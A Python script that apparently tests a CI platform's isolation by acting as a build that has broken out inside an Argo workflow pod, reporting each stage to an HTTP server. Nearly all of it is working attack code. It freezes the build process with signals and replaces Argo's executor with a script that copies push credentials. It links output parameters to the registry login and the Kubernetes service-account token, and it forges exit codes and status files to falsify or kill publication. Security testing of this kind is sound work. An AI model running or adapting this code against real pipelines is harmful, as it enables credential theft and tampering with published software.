"""What a build does that has broken out of its builder, in the container `build`, against the others of its pod.

    python3 attack.py REPORT-TO
    python3 attack.py REPORT-TO CONTAINER MODE OUTPUTS

It tells an HTTP server how it begins and ends. What it does stands in the arguments of the step `build`, as a file that
is excluded and does not exist: `attack-early` lets the container that publishes start before there is an image; all
others hold the step `build` once it has made its image. `attack-false` leaves everything in Argo's folder that could
change what is published or shown, and lets the publication go on; `attack-ended` ends it by signals; `attack-failed`
says that the build has failed; `attack-crashed` has Argo's own container read a login as the run's progress. Without
any it does nothing, so that the same image can be made in peace.

In another container that runs a stranger's files it lets `main` start, which passes on this container's results: those
of OUTPUTS, a JSON object, as they are, or with the mode `links` links to a token.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import sys
import time
import urllib.request
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path

ARGO = Path("/var/run/argo")
ENDED = ARGO / "ctr/main/exitcode"
MADE = Path("/shipway/build/image")
LOGIN = "/mainctrfs/shipway/push/config.json"
"""Where Argo's container `wait` sees the login of the container that publishes."""
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
OUTPUTS = ("digest", "reference", "commit", "tags", "size")
FALSE = "sha256:" + "0" * 64
PATIENCE_SECONDS = 120.0
_MODE = re.compile(r'--exclude=\["attack-([a-z]+)"\]')
_ALONE = 3000
"""Turns after which nothing has been copied by others, or ever will."""


def tell(server: str, what: str) -> None:
    """Ask the server for a page of that name; it knows none, and keeps what it was asked."""
    with contextlib.suppress(OSError):
        urllib.request.urlopen(f"{server}/attack/{what}", timeout=20)


def put(path: Path, text: str) -> None:
    """Put a file into the place of whatever is there."""
    beside = path.with_name(f".{path.name}")
    beside.write_text(text)
    beside.replace(path)


def link(path: Path, to: str) -> None:
    """Put a link into the place of whatever is there."""
    beside = path.with_name(f".{path.name}")
    beside.symlink_to(to)
    beside.replace(path)


def builders() -> dict[int, list[str]]:
    """Return the processes of the step `build` with their arguments."""
    found = {}
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            words = path.read_text().split("\0")
            if "emissary" not in words and ["step", "build"] in (words[1:3], words[2:4]):
                found[int(path.parent.name)] = words
    return found


def mode() -> str:
    """Return what is to be done; empty for nothing."""
    named = [match[1] for words in builders().values() for match in map(_MODE.match, words) if match]
    return named[0] if named else ""


def held() -> Iterator[None]:
    """Let the step `build` work for moments, until its image is there; give that moment, then let it end."""
    steps = list(builders())
    while not MADE.exists():
        for step in steps:
            os.kill(step, signal.SIGCONT)
        time.sleep(0.002)
        for step in steps:
            os.kill(step, signal.SIGSTOP)
    try:
        yield
    finally:
        for step in steps:
            os.kill(step, signal.SIGCONT)


def leave_lies(names: Sequence[str] = OUTPUTS, login: str = LOGIN) -> None:
    """Leave a program in the place of Argo's executor, another template, and another status."""
    put(ARGO / "argoexec", f"#!/bin/sh\ncat /shipway/push/* > {ARGO}/stolen\n")
    (ARGO / "argoexec").chmod(0o755)
    template = json.loads((ARGO / "template").read_text())
    template["outputs"] = {"parameters": [{"name": name, "valueFrom": {"path": login}} for name in names]}
    template["containerSet"].pop("volumeMounts", None)
    put(ARGO / "template", json.dumps(template))
    put(ARGO / "status", "FAILED\nlies\n")


def change_copies(turn: int, names: Sequence[str] = OUTPUTS) -> None:
    """Change what Argo copies of the outputs: false values, a login and a token of others by turns."""
    for folder in ("main", "results"):
        out = ARGO / "outputs/parameters/shipway" / folder / "out"
        out.mkdir(parents=True, exist_ok=True)
        for name in names:
            # The executor of `main` follows no link to what that container lacks, and would fail: its copy comes first.
            if turn <= _ALONE and not (out / name).exists():
                continue
            if turn % 3:
                link(out / name, (LOGIN, TOKEN)[turn % 3 - 1])
            else:
                put(out / name, FALSE)


def lying() -> None:
    """Let the publication begin, and change what is shown of it until it has ended."""
    leave_lies()
    put(ARGO / "ctr/clone/exitcode", "1")
    link(ARGO / "ctr/clone/signal", "/mainctrfs/shipway/clone/out/commit")
    link(ARGO / "ctr/build/signal", "/mainctrfs/shipway/clone/out/ref")
    put(ARGO / "ctr/build/exitcode", "0")
    change_all(OUTPUTS)


def change_all(names: Sequence[str]) -> None:
    """Change copies of outputs until `main` has ended."""
    for turn in range(int(PATIENCE_SECONDS / 0.001)):
        # The executor of `main` makes the folder when it has something to copy, or never.
        if ENDED.exists():
            return
        with contextlib.suppress(OSError):
            if (ARGO / "outputs").exists() or turn > _ALONE:
                change_copies(turn, names)
        time.sleep(0.001)


def ending() -> None:
    """Let the publication begin, and end it by signals."""
    put(ARGO / "ctr/build/exitcode", "0")
    until = time.monotonic() + PATIENCE_SECONDS
    while not ENDED.exists() and time.monotonic() < until:
        time.sleep(0.05)
        put(ARGO / "ctr/main/signal", str(int(signal.SIGKILL)))


def failing() -> None:
    """Say that the build has failed."""
    put(ARGO / "ctr/build/exitcode", "9")
    wait_for_end()


def crashing() -> None:
    """Let the publication begin, and have Argo's container `wait` read a login as progress, at which it ends."""
    link(ARGO / "progress", LOGIN)
    put(ARGO / "ctr/build/exitcode", "0")
    wait_for_end()


def wait_for_end() -> str:
    """Wait until the container that publishes has ended, and return what with; empty if it has not."""
    until = time.monotonic() + PATIENCE_SECONDS
    while time.monotonic() < until:
        if ENDED.is_file() and (code := ENDED.read_text()):
            return code
        time.sleep(0.02)
    return ""


def run(server: str, mode: str) -> None:
    """Attack, and tell what the container that publishes ended with."""
    tell(server, f"{mode}/begun")
    if mode == "early":
        put(ARGO / "ctr/build/exitcode", "0")
        tell(server, f"{mode}/main-{wait_for_end()}")
        return
    for _ in held():
        {"false": lying, "ended": ending, "failed": failing, "crashed": crashing}[mode]()
        tell(server, f"{mode}/main-{wait_for_end()}{'-stolen' if (ARGO / 'stolen').exists() else ''}")


def before_main(server: str, container: str, mode: str, outputs: Mapping[str, str]) -> None:
    """Put out what `main` passes on, before anything was done for it, and let that start."""
    tell(server, f"{container}-{mode}/begun")
    out = Path("/shipway") / container / "out"
    out.mkdir(parents=True, exist_ok=True)
    for name, text in outputs.items():
        if mode == "links":
            link(out / name, TOKEN)
        else:
            put(out / name, text)
    leave_lies(list(outputs), TOKEN)
    put(ARGO / "ctr" / container / "exitcode", "0")
    change_all(list(outputs))
    tell(server, f"{container}-{mode}/main-{wait_for_end()}")


def apart() -> bool:
    """Leave the caller, who goes on and hears nothing any more; return whether this is the caller."""
    if os.fork():
        return True
    os.setsid()
    nothing = os.open(os.devnull, os.O_RDWR)
    for descriptor in range(3):
        os.dup2(nothing, descriptor)
    return False


if __name__ == "__main__":
    if len(sys.argv) > 2:
        before_main(sys.argv[1], sys.argv[2], sys.argv[3], json.loads(sys.argv[4]))
        sys.exit()
    chosen = mode()
    # A RUN step that waited would hold up the image that the others wait for.
    if chosen and (chosen == "early" or not apart()):
        run(sys.argv[1], chosen)
